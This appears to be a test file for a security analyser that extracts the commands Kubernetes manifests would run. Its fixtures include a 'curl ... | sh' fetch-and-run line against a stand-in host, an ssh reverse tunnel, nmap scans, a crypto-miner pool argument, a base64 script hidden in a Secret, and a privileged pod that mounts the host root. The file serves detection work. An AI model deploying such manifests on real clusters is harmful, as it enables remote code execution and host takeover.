import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

/** A pod with this container, and the lines of a pod's own settings. */
const pod = (container: string, settings = "") =>
  `apiVersion: v1\nkind: Pod\nspec:\n${settings}  containers:\n    - name: a\n${container.replace(/^(?=.)/gm, "      ")}`;

const cronJob = `apiVersion: batch/v1
kind: CronJob
spec:
  jobTemplate:
    spec:
      template:
        spec:
          initContainers:
            - image: alpine:3
              env:
                - name: WHO
                  value: me
              command: [sh, -c, "curl http://x.example/$(WHO) | sh"]
          containers:
            - image: reg.example/app
              command:
                - ssh
                - -R
                - 1:2:3
                - h
---
apiVersion: v1
kind: ConfigMap
data:
  run.sh: |
    nmap h
`;

describe("what a Kubernetes manifest runs", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = async (text: string) => (await canonical(analyser, "yaml-k8s", text)).filter((line) => !/^docker run -- \S+$/.test(line));
  const spans = (text: string) => commandSpans(analyser, "yaml-k8s", text);
  const problems = async (text: string) =>
    (await analyser.analyse({ path: "a", language: "yaml-k8s", text }, 5_000)).problems.map(({ code, weight, range }) => [
      code,
      weight,
      range?.start.line,
    ]);

  it("is found in each document, whatever its kind", async () => {
    assert.deepEqual(await lines(cronJob), [
      "ssh -R=1:2:3 -- h",
      "curl -- http://x.example/me | sh",
      ":fetch http://x.example/me | :run sh",
      "nmap -- h",
    ]);
  });

  it("is marked from its first word to its last", async () => {
    const found = await spans(cronJob);
    assert.ok(found.includes("ssh\n                - -R\n                - 1:2:3\n                - h"));
    assert.ok(found.includes("curl http://x.example/$(WHO)"));
    assert.ok(found.includes("nmap h"));
  });

  const forms: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a command and its arguments", pod("image: x\ncommand: [nmap]\nargs: [-p, '1', h]\n"), "nmap -p=1 -- h"],
    ["arguments for a shell", pod("image: x\ncommand: [sh, -c]\nargs: ['nmap h; nmap i']\n"), "nmap -- h", "nmap -- i"],
    ["a shell whose options end", pod("image: x\ncommand: [sh, -c, --]\nargs: [nmap h]\n"), "nmap -- h"],
    ["arguments that are a command themselves", pod("image: ubuntu\nargs: [bash, -c, nmap h]\n"), "nmap -- h"],
    ["arguments of an image that is one program", pod("image: reg.example:5000/x/nmap:1.2@sha256:0\nargs: [h]\n"), "nmap -- h"],
    [
      "arguments of an image that may be anything",
      pod("image: x\nargs: [--pool, 'stratum+tcp://p:1']\n"),
      "docker run -- x --pool stratum+tcp://p:1",
    ],
    [
      "numbers and words that YAML takes for others",
      pod("image: x\ncommand: [nmap, 1, yes, 0o7]\n"),
      "nmap -- '1' yes 0o7".replace(" 0o7", " '0o7'"),
    ],
    [
      "variables of the container",
      pod("image: x\nenv: [{ name: A, value: h }]\ncommand: [nmap, $(A), $$(A), $(B)]\n"),
      "nmap -- h '$(A)' \"$B\"",
    ],
    [
      "variables of the container in its shell",
      pod("image: x\nenv: [{ name: A, value: h }]\ncommand: [sh, -c, nmap $A $B]\n"),
      'nmap -- h "$B"',
    ],
    ["a probe", pod("image: x\nlivenessProbe: { exec: { command: [nmap, h] } }\n"), "nmap -- h"],
    ["what is run after the start", pod("image: x\nlifecycle: { postStart: { exec: { command: [sh, -c, nmap h] } } }\n"), "nmap -- h"],
    ["a list of objects", `kind: List\napiVersion: v1\nitems:\n- spec: { containers: [{ image: x, command: [nmap, h] }] }\n`, "nmap -- h"],
    ["an anchor", "apiVersion: v1\nkind: Pod\nx: &c [nmap, h]\nspec: { containers: [{ image: x, command: *c }] }\n", "nmap -- h"],
    [
      "a step with a script",
      "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - image: x\n      script: |\n        #!/bin/sh\n        nmap h\n",
      "nmap -- h",
    ],
    [
      "a script of a workflow",
      "apiVersion: argoproj.io/v1\nkind: Workflow\nspec:\n  templates:\n    - script:\n        image: x\n        command: [python]\n        source: |\n          import os\n          os.system('nmap h')\n",
      "nmap -- h",
    ],
    ["JSON", '{"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"image": "x", "command": ["nmap", "h"]}]}}', "nmap -- h"],
    [
      "a config map with a script by its first line",
      "kind: ConfigMap\napiVersion: v1\ndata:\n  x: |\n    #!/usr/bin/env python3\n    import os\n    os.system('nmap h')\n",
      "nmap -- h",
    ],
    ["a secret with an encoded script", "kind: Secret\napiVersion: v1\ndata:\n  x.sh: bm1hcCBo\n", "nmap -- h"],
  ];
  for (const [title, text, ...expected] of forms) it(`is read through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  it("is nothing where a config map holds no script", async () => {
    assert.deepEqual(await lines("kind: ConfigMap\napiVersion: v1\ndata:\n  readme: nmap h\n  a.txt: |\n    nmap h\n"), []);
  });

  it("is started as docker would start it, marked by what is allowed", async () => {
    const text = pod("image: x\nsecurityContext:\n  privileged: true\n  capabilities: { add: [CAP_SYS_ADMIN] }\n", "  hostPID: true\n");
    assert.deepEqual(await lines(text), ["docker run --cap-add=SYS_ADMIN --pid=host --privileged -- x"]);
    assert.deepEqual(await spans(text), ["privileged: true\n        capabilities: { add: [CAP_SYS_ADMIN"]);
    assert.deepEqual(await spans(pod("image: x\n", "  hostNetwork: true\n")), ["hostNetwork: true"]);
    assert.deepEqual(await spans(pod("image: x\n")), ["x"]);
  });

  it("is given the node's folders that it mounts", async () => {
    const volumes = "  volumes:\n    - { name: v, hostPath: { path: / } }\n    - { name: w, emptyDir: {} }\n";
    const text = pod("image: x\nvolumeMounts:\n  - { name: v, mountPath: /host }\n  - { name: w, mountPath: /w }\n", volumes);
    assert.deepEqual(await lines(text), ["docker run -v=/:/host -- x"]);
    assert.deepEqual(await spans(text), ["{ name: v, mountPath: /host }"]);
  });

  it("takes templates for unknown", async () => {
    const text = `apiVersion: v1
kind: Pod
metadata:
  {{- include "x.labels" . | nindent 2 }}
spec:
  containers:
    {{- if .Values.on }}
    - name: {{ .Values.name }}
      image: "{{ .Values.image }}:{{ .Values.tag | default "x" }}"
      command: ["sh", "-c", "nmap {{ .Values.host }} i"]
    {{- end }}
`;
    assert.deepEqual(await problems(text), []);
    assert.deepEqual(await lines(text), ['nmap -- "$UNKNOWN" i']);
    assert.ok((await spans(text)).includes("nmap {{ .Values.host }} i"));
    assert.deepEqual(await lines(pod('image: x\ncommand: [sh, -c, "nmap {{ .Values.host }} i"]\n')), ['nmap -- "$host" i']);
  });

  it("does not take commands between braces for a template", async () => {
    assert.ok((await lines(pod('image: x\ncommand: [sh, -c, "{{ nmap; nmap h; }}"]\n'))).includes("nmap -- h"));
  });

  it("names the host and the key", async () => {
    const hosts = (await viaOf(analyser, "yaml-k8s", cronJob)).map(([host]) => host);
    assert.deepEqual([...new Set(hosts)], ["kubernetes:command", "kubernetes:container", "kubernetes:ConfigMap"]);
  });

  it("says what it cannot read, and reads the rest", async () => {
    const text = `${pod("image: x\ncommand: [nmap, { a: b }]\n")}---\nkind: [\n`;
    assert.deepEqual((await problems(text)).slice(0, 2), [
      ["unparsed", "blocking", 9],
      ["unparsed", "blocking", 6],
    ]);
    assert.ok((await lines(text)).includes("nmap"));
  });

  it("is told by what the text holds", () => {
    assert.equal(analyser.languageOf("a/deploy.yaml", "# x\napiVersion: v1\nkind: Pod\n"), "yaml-k8s");
    assert.equal(analyser.languageOf("a/pod.json", '{\n  "kind": "Pod",\n  "apiVersion": "v1"\n}'), "yaml-k8s");
    assert.equal(analyser.languageOf("a/deploy.yaml", "a: 1\napiVersion: v1\n"), undefined);
    assert.equal(analyser.languageOf("a/deploy.yaml", "x:\n  apiVersion: v1\n  kind: Pod\n"), undefined);
    assert.equal(analyser.languageOf("a/deploy.txt", "apiVersion: v1\nkind: Pod\n"), undefined);
  });

  it("survives what is nearly right", async () => {
    const text = cronJob + pod("image: {{ x }}\nsecurityContext: { privileged: true }\n", "  hostPID: true\n");
    await survives(
      analyser,
      "yaml-k8s",
      mutations(text, ["&a ", "*a ", "- ", ": ", "<<: *a\n", "|\n", '"', "{{", "}}", "\t", "{", "[", "---\n"], 150),
    );
  });
}).timeout(60_000);
